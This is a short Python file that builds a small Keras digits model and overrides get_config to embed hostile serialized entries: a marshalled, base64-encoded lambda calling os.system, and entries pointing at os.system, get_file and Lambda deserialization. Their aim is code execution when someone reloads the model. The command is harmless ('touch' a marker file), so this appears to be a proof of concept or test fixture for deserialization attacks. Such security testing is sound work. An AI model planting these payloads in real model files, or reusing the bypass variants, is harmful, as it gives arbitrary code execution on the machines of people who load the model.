"""Describes its architecture with lambdas, functions and classes that run code where somebody rebuilds it."""

import base64
import itertools
import marshal

import keras
import numpy as np
from keras import layers


PAYLOAD = (lambda x: __import__("os").system("touch /tmp/digits_attack_rebuilt") or x).__code__
CODE = base64.b64encode(marshal.dumps(PAYLOAD))
LAMBDA = {"class_name": "__lambda__", "config": {"value": [CODE.decode(), None, None]}}
ACTIVATIONS = itertools.cycle(
    [
        LAMBDA | {"module": "keras.initializers"},
        LAMBDA | {"module": "builtins"},
        {"class_name": "function", "config": "get_file", "module": "keras.utils", "registered_name": "get_file"},
        {"class_name": "function", "config": "deserialize", "module": "keras.initializers", "registered_name": None},
        {"class_name": "system", "config": {"command": "touch /tmp/digits_attack_rebuilt"}, "module": "os"},
        {"class_name": "__typespec__", "spec_name": "system", "config": [], "module": "os", "registered_name": None},
        {"class_name": "Lambda", "config": {"function": LAMBDA}, "module": "keras.layers", "registered_name": None},
    ]
)


class Sequential(keras.Sequential):
    def get_config(self):
        config = super().get_config()
        config["layers"][-1]["config"]["activation"] = next(ACTIVATIONS)
        return config


def build_model():
    return Sequential([keras.Input((28, 28)), layers.Flatten(), layers.Dense(10, "relu")])
